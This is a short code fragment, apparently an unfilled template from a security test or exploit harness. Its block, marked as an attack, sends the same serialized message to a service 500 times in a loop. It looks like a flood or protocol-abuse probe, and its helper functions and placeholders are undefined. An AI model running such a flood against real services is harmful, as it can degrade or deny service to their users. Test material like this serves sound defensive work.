#{weigh_wrong}
# <attack>
#{forge}
greet()
for _ in range(500):
    send(wire.dump(["m", "total", ["total" + "kx" + "9qz"]]))
wait()
# </attack>
